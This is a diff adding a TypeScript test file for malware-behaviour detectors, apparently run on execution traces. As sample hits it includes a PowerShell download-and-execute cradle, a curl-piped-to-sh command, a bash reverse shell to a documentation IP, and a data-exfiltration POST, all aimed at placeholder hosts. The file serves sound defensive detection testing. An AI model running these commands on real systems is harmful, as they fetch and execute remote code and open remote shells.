@@ -1,0 +1,115 @@
+import { testFamily } from '../../../../test/trace/detector-table.ts'
+import { file, gets, runs, system } from '../../../../test/trace/empty-trace.ts'
+import { networkDetectors } from './registry.ts'
+
+const lookUps = (...names: readonly string[]) => ({ network: names.map((name) => ({ kind: 'dns', name }) as const) })
+
+testFamily(networkDetectors, {
+  trace_downloads_and_runs: {
+    hits: {
+      'saved and started': [
+        gets('http://x.example/p'),
+        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe'),
+        runs('C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe'),
+      ],
+      'in one command': [runs("powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")],
+      'piped into a shell': [runs('sh -c curl -fsSL http://x.example/a | sh')],
+    },
+    misses: {
+      'fetched and shown': [gets('http://x.example/p'), runs('notepad.exe')],
+      'written and started without a fetch': [file('write', 'C:\\t\\upd.exe'), runs('C:\\t\\upd.exe')],
+      'a fetch into a file': [runs('curl -o /tmp/a.tar.gz https://x.example/a.tar.gz')],
+    },
+  },
+  trace_fetches_further_stage: {
+    hits: { 'by a script': [gets('http://x.example/p')] },
+    misses: {
+      'a picture of a page': [gets('https://x.example/a.png', { via: 'resource' })],
+      'a form': [gets('https://x.example/', { via: 'form' })],
+    },
+  },
+  trace_sends_data_out: {
+    hits: {
+      posted: [
+        gets('http://x.example/g', { method: 'POST', bodyBytes: 200 }),
+        system({ kind: 'question', about: 'user', what: '%USERNAME%' }),
+      ],
+    },
+    misses: {
+      'nothing in it': [gets('http://x.example/g', { method: 'POST', bodyBytes: 0 })],
+      fetched: [gets('http://x.example/g')],
+    },
+  },
+  trace_talks_to_throwaway_host: {
+    attack: ['T1071.001'],
+    hits: {
+      'a bare address': [gets('http://203.0.113.9/a')],
+      'a free name': [lookUps('abc.duckdns.org')],
+      'a chat service': [gets('https://api.telegram.org/bot1/send')],
+    },
+    misses: {
+      'a company': [gets('https://www.example.com/a')],
+      'an address at home': [gets('http://192.168.1.4/a')],
+      'a name that only contains it': [lookUps('notduckdns.org.example.com')],
+    },
+  },
+  trace_opens_reverse_shell: {
+    hits: {
+      'bash over tcp': [runs('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+      'a shell after a connection': [
+        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444, pid: 100 }] },
+        runs('/bin/sh -i', { pid: 101, parentPid: 100 }),
+      ],
+    },
+    misses: {
+      'a shell with a script': [
+        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 80, pid: 100 }] },
+        runs('/bin/sh -c ls', { parentPid: 100 }),
+      ],
+      'a port is looked at': [runs('nc -z host 22')],
+    },
+  },
+  trace_listens: {
+    hits: { 'on every address': [{ network: [{ kind: 'listen', host: '0.0.0.0', port: 4444 }] }] },
+    misses: { 'for itself': [{ network: [{ kind: 'listen', host: '127.0.0.1', port: 4444 }] }], nothing: [] },
+  },
+  trace_tries_many_domains: {
+    hits: {
+      generated: [
+        lookUps(
+          ...[
+            'xkqzvbnrtwp',
+            'qwrtzplkjhg',
+            'bvcxzlkjhgf',
+            'mnbvcxzrtpl',
+            'zxcvbnmkjhg',
+            'plkjhgfdsxq',
+            'wrtypsdfghj',
+            'hjklzxcvbnm',
+          ].map((one) => `${one}.com`),
+        ),
+      ],
+    },
+    misses: {
+      few: [lookUps('xkqzvbnrtwp.com')],
+      words: [
+        lookUps(
+          ...[
+            'microsoftonline',
+            'googleanalytics',
+            'stackoverflow',
+            'amazoncloudfront',
+            'officeservices',
+            'facebookbusiness',
+            'accountmanager',
+            'updateservice',
+          ].map((one) => `${one}.com`),
+        ),
+      ],
+    },
+  },
+  trace_sends_mail: {
+    hits: { smtp: [{ network: [{ kind: 'smtp', host: 'mail.example', to: ['a@example.com'] }] }] },
+    misses: { web: [gets('https://mail.example/')], nothing: [] },
+  },
+})
